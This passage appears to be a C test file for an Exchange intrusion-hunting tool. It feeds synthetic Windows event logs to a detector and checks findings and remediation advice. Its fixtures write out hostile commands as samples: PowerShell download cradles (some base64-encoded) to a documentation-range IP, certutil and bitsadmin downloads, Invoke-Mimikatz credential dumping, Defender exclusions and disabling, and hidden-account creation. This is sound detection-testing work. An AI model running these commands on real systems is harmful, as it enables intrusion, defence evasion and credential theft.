                 D("CallTrace", "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|"
                                "UNKNOWN(00000000004F1A2B)") "</EventData>")},
     "lsass-access",
     HC_NONE,
     HL_NOT_SEEN},
    {"Defender reads LSASS (Sysmon 10)",
     {EV("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational", 10,
         4,
         "<EventData>" D(
             "SourceImage",
             "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform"
             "\\4.18.2111.5-0\\MsMpEng.exe")
             D("TargetImage",
               "C:\\Windows\\system32\\lsass.exe") D("GrantedAccess", "0x1410")
                 D("CallTrace", "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|"
                                "UNKNOWN(00007FF8A1B2C3D4)") "</EventData>")},
     NULL,
     HC_NONE,
     HL_NOT_SEEN},
    {"w3wp starts cmd (4688 of Server 2012 R2: no parent name)",
     {EV("Microsoft-Windows-Security-Auditing", "Security", 4688, 0,
         "<EventData>" D("NewProcessId", "0x1a2c")
             D("NewProcessName", "C:\\Windows\\System32\\inetsrv\\w3wp.exe")
                 D("ProcessId", "0x2f0") D("CommandLine", "") "</EventData>"),
      EV("Microsoft-Windows-Security-Auditing", "Security", 4688, 0,
         "<EventData>" D("NewProcessId", "0x22b8")
             D("NewProcessName", "C:\\Windows\\System32\\cmd.exe")
                 D("ProcessId", "0x1a2c")
                     D("CommandLine", "cmd /c whoami") "</EventData>")},
     "exchange-process-spawn",
     HC_NONE,
     HL_NOT_SEEN},
    {"an admin's cmd under explorer (4688, no parent name)",
     {EV("Microsoft-Windows-Security-Auditing", "Security", 4688, 0,
         "<EventData>" D("NewProcessId", "0x1a2c")
             D("NewProcessName", "C:\\Windows\\explorer.exe")
                 D("ProcessId", "0x2f0") D("CommandLine", "") "</EventData>"),
      EV("Microsoft-Windows-Security-Auditing", "Security", 4688, 0,
         "<EventData>" D("NewProcessId", "0x22b8")
             D("NewProcessName", "C:\\Windows\\System32\\cmd.exe")
                 D("ProcessId", "0x1a2c")
                     D("CommandLine", "cmd /c whoami") "</EventData>")},
     NULL,
     HC_NONE,
     HL_NOT_SEEN},
    {"an admin downloading an update to disk",
     {BLOCK("Invoke-WebRequest -Uri https://download.microsoft.com/"
            "x/Exchange2019-KB5019758-x64-en.msp -OutFile C:\\Updates\\"
            "su.msp",
            "b3")},
     NULL,
     HC_NONE,
     HL_NOT_SEEN},
    {"w3wp compiling a page to a DLL",
     {EV("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational", 11,
         4,
         "<EventData>" D("Image", "c:\\windows\\system32\\inetsrv\\w3wp.exe") D(
             "TargetFilename",
             "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\"
             "Temporary ASP.NET Files\\owa\\a1\\App_Web_x.dll") "</"
                                                                "EventData>")},
     NULL,
     HC_NONE,
     HL_NOT_SEEN},
    {"service running cmd.exe by its path",
     {EV("Service Control Manager", "System", 7045, 4,
         "<EventData>" D("ServiceName", "svc")
             D("ImagePath", "\"C:\\Windows\\System32\\cmd.exe\" /k "
                            "net user") "</EventData>")},
     "service-installed",
     HC_NONE,
     HL_NOT_SEEN},
    {"Run key set (Sysmon 13)",
     {EV("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational", 13,
         4,
         "<EventData>" D("EventType", "SetValue")
             D("TargetObject", "HKU\\S-1-5-21-1\\Software\\Microsoft\\"
                               "Windows\\CurrentVersion\\Run\\upd")
                 D("Details", "C:\\Users\\Public\\upd.exe") "</EventData>")},
     "run-key",
     HC_NONE,
     HL_NOT_SEEN},
    {"Run key set to Program Files (Sysmon 13)",
     {EV("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational", 13,
         4,
         "<EventData>" D("EventType", "SetValue")
             D("TargetObject", "HKLM\\SOFTWARE\\Microsoft\\Windows\\"
                               "CurrentVersion\\Run\\VMware")
                 D("Details",
                   "\"C:\\Program Files\\VMware\\vm.exe\"") "</EventData>")},
     NULL,
     HC_NONE,
     HL_NOT_SEEN},
    {"task hidden (Sysmon 12, SD deleted)",
     {EV("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational", 12,
         4,
         "<EventData>" D("EventType", "DeleteValue")
             D("TargetObject", "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\"
                               "CurrentVersion\\Schedule\\TaskCache\\"
                               "Tree\\Upd\\SD") "</EventData>")},
     "hidden-task",
     HC_NONE,
     HL_NOT_SEEN},
    {"transport agent installed from a command line",
     {EV("Microsoft-Windows-Security-Auditing", "Security", 4688, 0,
         "<EventData>" D("NewProcessName",
                         "C:\\Windows\\System32\\WindowsPowerShell\\"
                         "v1.0\\powershell.exe")
             D("ParentProcessName", "C:\\Windows\\System32\\cmd.exe") D(
                 "CommandLine", "powershell -c \"Add-PSSnapin *Exchange*; "
                                "Install-TransportAgent -Name x -AssemblyPath "
                                "C:\\ProgramData\\x.dll\"") "</EventData>")},
     "transport-agent",
     HC_NONE,
     HL_NOT_SEEN},
    {"schtasks running a script from ProgramData",
     {EV("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational", 1,
         4,
         "<EventData>" D("Image", "C:\\Windows\\System32\\schtasks.exe") D(
             "ParentImage", "C:\\Windows\\System32\\cmd.exe")
             D("CommandLine", "schtasks /create /sc minute /mo 30 /tn Upd /tr "
                              "\"powershell -f C:\\ProgramData\\u.ps1\" /ru "
                              "SYSTEM") "</EventData>")},
     "task-created",
     HC_NONE,
     HL_NOT_SEEN},
    {"PowerShell cradle on a command line (Sysmon 1)",
     {EV("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational", 1,
         4,
         "<EventData>" D("Image", "C:\\Windows\\System32\\WindowsPowerShell"
                                  "\\v1.0\\powershell.exe")
             D("ParentImage", "C:\\Windows\\System32\\cmd.exe")
                 D("CommandLine",
                   "powershell -nop -w hidden -c \"IEX (New-Object "
                   "Net.WebClient).DownloadString('http://198.51.100.7/"
                   "a.ps1')\"") "</EventData>")},
     "download-cradle",
     HC_NONE,
     HL_NOT_SEEN},
    {"PowerShell cradle hidden in -enc (4688)",
     {EV("Microsoft-Windows-Security-Auditing", "Security", 4688, 0,
         "<EventData>" D("NewProcessName",
                         "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\"
                         "powershell.exe")
             D("ParentProcessName", "C:\\Windows\\System32\\cmd.exe")
                 D("CommandLine",
                   "powershell.exe -NoP -NonI -W Hidden -enc "
                   "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQ"
                   "BiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBu"
                   "AGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADgALgA1ADEALgAxADAAMAAuAD"
                   "cALwBhAC4AcABzADEAJwApAA==") "</EventData>")},
     "download-cradle",
     HC_NONE,
     HL_NOT_SEEN},
    {"an admin's encoded command listing services",
     {EV("Microsoft-Windows-Security-Auditing", "Security", 4688, 0,
         "<EventData>" D("NewProcessName",
                         "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\"
                         "powershell.exe")
             D("ParentProcessName", "C:\\Windows\\explorer.exe")
                 D("CommandLine",
                   "powershell.exe -EncodedCommand "
                   "RwBlAHQALQBTAGUAcgB2AGkAYwBlACAAfAAgAFcAaABlAHIAZQAtAE8AYg"
                   "BqAGUAYwB0ACAAUwB0AGEAdAB1AHMAIAAtAGUAcQAgAFIAdQBuAG4AaQBu"
                   "AGcAIAB8ACAAUwBlAGwAZQBjAHQALQBPAGIAagBlAGMAdAAgAE4AYQBtAG"
                   "UA") "</EventData>")},
     NULL,
     HC_NONE,
     HL_NOT_SEEN},
    {"an admin's script run with -ExecutionPolicy Bypass",
     {EV("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational", 1,
         4,
         "<EventData>" D("Image", "C:\\Windows\\System32\\WindowsPowerShell"
                                  "\\v1.0\\powershell.exe")
             D("ParentImage", "C:\\Windows\\System32\\svchost.exe")
                 D("CommandLine",
                   "powershell.exe -ExecutionPolicy Bypass "
                   "-File C:\\Scripts\\backup.ps1") "</EventData>")},
     NULL,
     HC_NONE,
     HL_NOT_SEEN},
    {"certutil fetching a program",
     {EV("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational", 1,
         4,
         "<EventData>" D("Image", "C:\\Windows\\System32\\certutil.exe")
             D("ParentImage", "C:\\Windows\\System32\\cmd.exe")
                 D("CommandLine",
                   "certutil -urlcache -split -f http://198.51.100.7/x.exe "
                   "C:\\ProgramData\\x.exe") "</EventData>")},
     "download-cradle",
     HC_NONE,
     HL_NOT_SEEN},
    {"certutil hashing a file",
     {EV("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational", 1,
         4,
         "<EventData>" D("Image", "C:\\Windows\\System32\\certutil.exe")
             D("ParentImage", "C:\\Windows\\System32\\cmd.exe")
                 D("CommandLine", "certutil -hashfile C:\\Install\\ex.iso "
                                  "SHA256") "</EventData>")},
     NULL,
     HC_NONE,
     HL_NOT_SEEN},
    {"bitsadmin fetching a program",
     {EV("Microsoft-Windows-Security-Auditing", "Security", 4688, 0,
         "<EventData>" D("NewProcessName",
                         "C:\\Windows\\System32\\bitsadmin.exe")
             D("ParentProcessName", "C:\\Windows\\System32\\cmd.exe")
                 D("CommandLine", "bitsadmin /transfer j /download /priority "
                                  "high http://198.51.100.7/x.exe "
                                  "C:\\Users\\Public\\x.exe") "</EventData>")},
     "download-cradle",
     HC_NONE,
     HL_NOT_SEEN},
    {"Windows PowerShell 400: a host started with a hidden cradle",
     {EV("PowerShell", "Windows PowerShell", 400, 4,
         "<EventData><Data>Available</Data><Data>None</Data><Data>"
         "\tNewEngineState=Available\n\tPreviousEngineState=None\n\n"
         "\tSequenceNumber=13\n\n\tHostName=ConsoleHost\n\tHostVersion="
         "5.1.14393.0\n\tHostId=5d1a2f5e\n\tHostApplication=powershell.exe "
         "-nop -w hidden -e "
         "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQ"
         "BiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBu"
         "AGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADgALgA1ADEALgAxADAAMAAuAD"
         "cALwBhAC4AcABzADEAJwApAA==\n\tEngineVersion=5.1.14393.0\n"
         "</Data></EventData>")},
     "download-cradle",
     HC_NONE,
     HL_NOT_SEEN},
    {"Windows PowerShell 400: an admin's console",
     {EV("PowerShell", "Windows PowerShell", 400, 4,
         "<EventData><Data>Available</Data><Data>None</Data><Data>"
         "\tNewEngineState=Available\n\tHostName=ConsoleHost\n"
         "\tHostApplication=C:\\Windows\\System32\\WindowsPowerShell\\v1.0"
         "\\powershell.exe -NoProfile\n\tEngineVersion=5.1.14393.0\n"
         "</Data></EventData>")},
     NULL,
     HC_NONE,
     HL_NOT_SEEN},
    {"Windows PowerShell 800: a pipeline that downloads and runs",
     {EV("PowerShell", "Windows PowerShell", 800, 4,
         "<EventData><Data>$Sw=new-object Net.WebClient;$d='C:\\Users"
         "\\Public\\x.exe';foreach($u in 'http://198.51.100.7/a'.Split("
         "',')){try{$Sw.DownloadFile($u,$d);Invoke-Item $d;break}catch{}}"
         "</Data><Data>\tDetailSequence=1\n\tHostApplication=powershell "
         "-w hidden\n</Data><Data>CommandInvocation(New-Object): "
         "\"New-Object\"\nParameterBinding(New-Object): name=\"TypeName\"; "
         "value=\"Net.WebClient\"</Data></EventData>")},
     "download-cradle",
     HC_NONE,
     HL_NOT_SEEN},
    {"Windows PowerShell 800 alone: the host's encoded command",
     {EV("PowerShell", "Windows PowerShell", 800, 4,
         "<EventData><Data>Get-Item $d</Data><Data>\tDetailSequence=1\n"
         "\tHostApplication=powershell -nop -w hidden -enc "
         "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQ"
         "BiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBu"
         "AGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADgALgA1ADEALgAxADAAMAAuAD"
         "cALwBhAC4AcABzADEAJwApAA==\n\tEngineVersion=5.1\n</Data>"
         "<Data>CommandInvocation(Get-Item): \"Get-Item\"</Data>"
         "</EventData>")},
     "download-cradle",
     HC_NONE,
     HL_NOT_SEEN},
    {"PowerShell 4103: Invoke-Expression given a download",
     {EV("Microsoft-Windows-PowerShell",
         "Microsoft-Windows-PowerShell/Operational", 4103, 4,
         "<EventData>" D("ContextInfo",
                         "        Severity = Informational\n        Host "
                         "Application = powershell.exe\n") D("UserData", "")
             D("Payload",
               "CommandInvocation(Invoke-Expression): \"Invoke-"
               "Expression\"\nParameterBinding(Invoke-Expression): name="
               "\"Command\"; value=\"(New-Object Net.WebClient).Download"
               "String('http://198.51.100.7/a')\"") "</EventData>")},
     "download-cradle",
     HC_NONE,
     HL_NOT_SEEN},
    {"PowerShell 4103: an admin listing services",
     {EV("Microsoft-Windows-PowerShell",
         "Microsoft-Windows-PowerShell/Operational", 4103, 4,
         "<EventData>" D("ContextInfo", "        Host Application = "
                                        "powershell.exe\n")
             D("Payload", "CommandInvocation(Get-Service): "
                          "\"Get-Service\"") "</EventData>")},
     NULL,
     HC_NONE,
     HL_NOT_SEEN},
    {"Defender told to skip ProgramData (5007)",
     {EV("Microsoft-Windows-Windows Defender",
         "Microsoft-Windows-Windows Defender/Operational", 5007, 4,
         "<EventData>" D("Product Name", "Microsoft Defender Antivirus")
             D("Old Value", "")
                 D("New Value", "HKLM\\SOFTWARE\\Microsoft\\Windows "
                                "Defender\\Exclusions\\Paths\\C:\\"
                                "ProgramData = 0x0") "</EventData>")},
     "defender-exclusion",
     HC_NONE,
     HL_NOT_SEEN},
    {"Defender told to skip .aspx files (5007)",
     {EV("Microsoft-Windows-Windows Defender",
         "Microsoft-Windows-Windows Defender/Operational", 5007, 4,
         "<EventData>" D("New Value",
                         "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\"
                         "Exclusions\\Extensions\\aspx = 0x0") "</EventData>")},
     "defender-exclusion",
     HC_NONE,
     HL_NOT_SEEN},
    {"Exchange's own exclusion, as Microsoft lists it (5007)",
     {EV("Microsoft-Windows-Windows Defender",
         "Microsoft-Windows-Windows Defender/Operational", 5007, 4,
         "<EventData>" D("New Value",
                         "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\"
                         "Exclusions\\Paths\\C:\\Program Files\\Microsoft\\"
                         "Exchange Server\\V15\\TransportRoles\\Data\\Temp = "
                         "0x0") "</EventData>")},
     NULL,
     HC_NONE,
     HL_NOT_SEEN},
    {"Exchange's .edb extension excluded (5007)",
     {EV("Microsoft-Windows-Windows Defender",
         "Microsoft-Windows-Windows Defender/Operational", 5007, 4,
         "<EventData>" D("New Value",
                         "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\"
                         "Exclusions\\Extensions\\.edb = 0x0") "</EventData>")},
     NULL,
     HC_NONE,
     HL_NOT_SEEN},
    {"Defender real-time protection off (5001)",
     {EV("Microsoft-Windows-Windows Defender",
         "Microsoft-Windows-Windows Defender/Operational", 5001, 3,
         "<EventData>" D("Product Name",
                         "Microsoft Defender Antivirus") "</EventData>")},
     "defender-disabled",
     HC_NONE,
     HL_NOT_SEEN},
    {"Set-MpPreference turning monitoring off (4104)",
     {BLOCK("Set-MpPreference -DisableRealtimeMonitoring $true", "d1")},
     "defender-disabled",
     HC_NONE,
     HL_NOT_SEEN},
    {"Add-MpPreference excluding the OWA sign-in folder (command line)",
     {EV("Microsoft-Windows-Security-Auditing", "Security", 4688, 0,
         "<EventData>" D("NewProcessName",
                         "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\"
                         "powershell.exe")
             D("ParentProcessName", "C:\\Windows\\System32\\cmd.exe")
                 D("CommandLine",
                   "powershell -c Add-MpPreference -ExclusionPath "
                   "'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\"
                   "FrontEnd\\HttpProxy\\owa\\auth'") "</EventData>")},
     "defender-exclusion",
     HC_NONE,
     HL_NOT_SEEN},
    {"Add-MpPreference excluding Exchange's mailbox databases",
     {BLOCK("Add-MpPreference -ExclusionPath \"D:\\Exchange Server\\V15\\"
            "Mailbox\" -ExclusionExtension \".edb\"",
            "d2")},
     NULL,
     HC_NONE,
     HL_NOT_SEEN},
    {"Guest enabled (4722)",
     {EV("Microsoft-Windows-Security-Auditing", "Security", 4722, 0,
         "<EventData>" D("TargetUserName", "Guest")
             D("TargetDomainName", "EX01")
                 D("TargetSid", "S-1-5-21-1111111111-2222222222-3333333333-501")
                     D("SubjectUserName", "SYSTEM") "</EventData>")},
     "account-enabled",
     HC_NONE,
     HL_NOT_SEEN},
    {"a staff account enabled again (4722)",
     {EV("Microsoft-Windows-Security-Auditing", "Security", 4722, 0,
         "<EventData>" D("TargetUserName", "jsmith") D("TargetDomainName",
                                                       "CORP")
             D("TargetSid", "S-1-5-21-1111111111-2222222222-3333333333-1184")
                 D("SubjectUserName", "helpdesk") "</EventData>")},
     NULL,
     HC_NONE,
     HL_NOT_SEEN},
    {"net user guest /active:yes",
     {EV("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational", 1,
         4,
         "<EventData>" D("Image", "C:\\Windows\\System32\\net.exe")
             D("ParentImage", "C:\\Windows\\System32\\cmd.exe") D(
                 "CommandLine", "net user guest /active:yes") "</EventData>")},
     "account-enabled",
     HC_NONE,
     HL_NOT_SEEN},
    {"Dumpert's dump written (Sysmon 11)",
     {EV("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational", 11,
         4,
         "<EventData>" D("Image", "C:\\Users\\admin\\Desktop\\Outflank-"
                                  "Dumpert.exe")
             D("TargetFilename",
               "C:\\Windows\\Temp\\dumpert.dmp") "</EventData>")},
     "lsass-dump",
     HC_NONE,
     HL_NOT_SEEN},
    {"a crash dump written by Windows Error Reporting (Sysmon 11)",
     {EV("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational", 11,
         4,
         "<EventData>" D("Image", "C:\\Windows\\System32\\WerFault.exe")
             D("TargetFilename", "C:\\ProgramData\\Microsoft\\Windows\\WER\\"
                                 "Temp\\WER1A2B.tmp.mdmp") "</EventData>")},
     NULL,
     HC_NONE,
     HL_NOT_SEEN},
    {"schtasks for the backup program",
     {EV("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational", 1,
         4,
         "<EventData>" D("Image", "C:\\Windows\\System32\\schtasks.exe")
             D("ParentImage", "C:\\Windows\\explorer.exe")
                 D("CommandLine",
                   "schtasks /create /tn Backup /tr \"\\\"C:\\Program "
                   "Files\\Veeam\\agent.exe\\\"\" /sc daily") "</EventData>")},
     NULL,
     HC_NONE,
     HL_NOT_SEEN},
    {"net localgroup administrators /add",
     {EV("Microsoft-Windows-Security-Auditing", "Security", 4688, 0,
         "<EventData>" D("NewProcessName", "C:\\Windows\\System32\\net.exe")
             D("ParentProcessName", "C:\\Windows\\System32\\cmd.exe") D(
                 "CommandLine",
                 "net localgroup administrators support /add") "</EventData>")},
     "group-member-added",
     HC_NONE,
     HL_NOT_SEEN},
    {"sc create with cmd",
     {EV("Microsoft-Windows-Security-Auditing", "Security", 4688, 0,
         "<EventData>" D("NewProcessName", "C:\\Windows\\System32\\sc.exe")
             D("ParentProcessName", "C:\\Windows\\System32\\cmd.exe") D(
                 "CommandLine", "sc create upd binPath= \"cmd /c "
                                "C:\\Users\\Public\\a.bat\"") "</EventData>")},
     "service-installed",
     HC_NONE,
     HL_NOT_SEEN},
    {"an account named to hide (4720)",
     {EV("Microsoft-Windows-Security-Auditing", "Security", 4720, 0,
         "<EventData>" D("TargetUserName", "svc$") D("TargetDomainName", "EX01")
             D("SubjectUserName", "EX01$") "</EventData>")},
     "hidden-account",
     HC_NONE,
     HL_NOT_SEEN},
    {"a hidden account's key made (Sysmon 12)",
     {EV("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational", 12,
         4,
         "<EventData>" D("EventType", "CreateKey")
             D("TargetObject", "HKLM\\SAM\\SAM\\Domains\\Account\\Users"
                               "\\Names\\hideme$") "</EventData>")},
     "hidden-account",
     HC_NONE,
     HL_NOT_SEEN},
    {"Invoke-Mimikatz in a script block",
     {BLOCK("Invoke-Mimikatz -Command '\"sekurlsa::logonpasswords\"'", "b5")},
     "offensive-powershell",
     HC_NONE,
     HL_NOT_SEEN},
    {"an admin reading the AMSI documentation's cmdlet names",
     {BLOCK("Get-MpComputerStatus | Select AMServiceEnabled", "b6")},
     NULL,
     HC_NONE,
     HL_NOT_SEEN},
    {"an admin's script block",
     {BLOCK("Get-Mailbox -ResultSize 10 | Format-List", "b2")},
     NULL,
     HC_NONE,
     HL_NOT_SEEN},
};

/* A script an Exchange process wrote (Sysmon 11) and the back door found
 * at that path: the back door takes the writer's chain, the event names
 * the file, and the chain's CVE becomes back-doored. */
static void joined(void)
{
	static const char *const x[] = {EV(
	    "Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational",
	    11, 4,
	    "<EventData>" D("Image", "C:\\Program Files\\Microsoft\\Exchange "
	                             "Server\\V15\\Bin\\UMWorkerProcess.exe")
	        D("TargetFilename",
	          "C:\\inetpub\\wwwroot\\aspnet_client\\Shell.aspx")
	            "</EventData>")};
	struct hunt h = {.root = "t"};
	struct finding *b =
	    hunt_add(&h, "webshell", HC_NONE, HL_NOT_SEEN, SEV_CRITICAL,
	             "C/inetpub/wwwroot/aspnet_client/shell.aspx", 0, "a shell");
	size_t k;

	CHECK(b != NULL);
	if (b)
		b->backdoor = true;
	detect_event_records(&h, "Sysmon.evtx", x, 1);
	hunt_correlate(&h);
	hunt_correlate(&h); /* twice: the same answer */
	for (k = 0; k < h.nf; k++) {
		if (h.f[k].backdoor)
			CHECK_STR(h.f[k].chain, "proxylogon");
		if (!strcmp(h.f[k].kind, "script-written-by-exchange"))
			CHECK(strstr(h.f[k].detail,
			             "(the back door found at "
			             "C/inetpub/wwwroot/aspnet_client/shell.aspx)") &&
			      !strstr(strstr(h.f[k].detail, "(the back") + 1,
			              "(the back"));
	}
	CHECK(h.verdict[HC_26858] == HL_BACKDOORED);
	hunt_release(&h);
}

/* Credential theft named in a script block asks for every credential to
 * be reset, as a dumped LSASS does. */
static void creds_reset(void)
{
	static const char *const x[] = {
	    BLOCK("Invoke-Mimikatz -DumpCreds", "c1")};
	struct hunt h = {.root = "t"};
	struct buf b;

	buf_init(&b, 1 << 20);
	detect_event_records(&h, "PowerShell.evtx", x, 1);
	hunt_correlate(&h);
	CHECK(hunt_report_json(&h, &b) == 0);
	CHECK(b.p && strstr(b.p, "Reset every credential used on this server"));
	buf_release(&b);
	hunt_release(&h);
}

/* A logon page that harvests passwords asks for every OWA and ECP
 * user's password to be reset since it appeared; another web shell
 * does not. */
static void harvester_step(void)
{
	static const char *const details[] = {
	    "credential harvester: ... [harvester]",
	    "command runner: request data reaches a started process [command]"};
	for (int k = 0; k < 2; k++) {
		struct hunt h = {.root = "t"};
		struct buf b;
		struct finding *f =
		    hunt_add(&h, "webshell", HC_NONE, HL_NOT_SEEN, SEV_CRITICAL,
		             "owa/auth/logon.aspx", 0, details[k]);
		CHECK(f != NULL);
		if (f) {
			f->backdoor = true;
			snprintf(f->time, sizeof f->time,
			         "2021-08-20T10:00:00Z");
		}
		buf_init(&b, 1 << 20);
		CHECK(hunt_report_json(&h, &b) == 0);
		CHECK(b.p && (strstr(b.p, "Reset the password of every user "
		                          "who signed in to Outlook on the web "
		                          "or the ECP on this server since "
		                          "2021-08-20T10:00:00Z") != NULL) ==
		                 (k == 0));
		buf_release(&b);
		hunt_release(&h);
	}
	/* a harvester of unknown time found first does not hide the time
	 * of another */
	{
		struct hunt h = {.root = "t"};
		struct buf b;
		struct finding *f;
		hunt_add(&h, "webshell", HC_NONE, HL_NOT_SEEN, SEV_CRITICAL,
		         "owa/auth/a.aspx", 0, details[0]);
		f = hunt_add(&h, "webshell", HC_NONE, HL_NOT_SEEN, SEV_CRITICAL,
		             "owa/auth/b.aspx", 0, details[0]);
		CHECK(f != NULL);
		if (f)
			snprintf(f->time, sizeof f->time,
			         "2021-08-20T10:00:00Z");
		buf_init(&b, 1 << 20);
		CHECK(hunt_report_json(&h, &b) == 0);
		CHECK(b.p && strstr(b.p, "on this server since "
		                         "2021-08-20T10:00:00Z"));
		buf_release(&b);
		hunt_release(&h);
	}
}

int main(void)
{
	size_t i;

	reader();
	joined();
	creds_reset();
	harvester_step();
	for (i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		struct hunt h = {.root = "t"};
		const char *const *x = cases[i].xml;
		int n = x[2] ? 3 : x[1] ? 2 : 1;
		size_t k, hits = 0;
		detect_event_records(&h, "Security.evtx", x, n);
		hunt_correlate(&h);
		for (k = 0; k < h.nf; k++) {
			if (h.f[k].sev <= SEV_LOW)
				continue;
			hits++;
			if (!cases[i].kind || strcmp(h.f[k].kind, cases[i].kind)) {
				fprintf(stderr, "%s: unexpected %s: %s\n",
				        cases[i].name, h.f[k].kind, h.f[k].detail);
				CHECK(0);
			}
			CHECK_STR(h.f[k].time, "2021-03-03T04:05:06Z");
		}
		CHECK(cases[i].kind ? hits > 0 : hits == 0);
		if (cases[i].kind && hits == 0) {
			fprintf(stderr, "%s: %s not found\n", cases[i].name,
			        cases[i].kind);
			CHECK(0);
		}
		if (cases[i].cve >= 0)
			CHECK(h.verdict[cases[i].cve] == cases[i].level);
		hunt_release(&h);
	}
	return check_done();
}
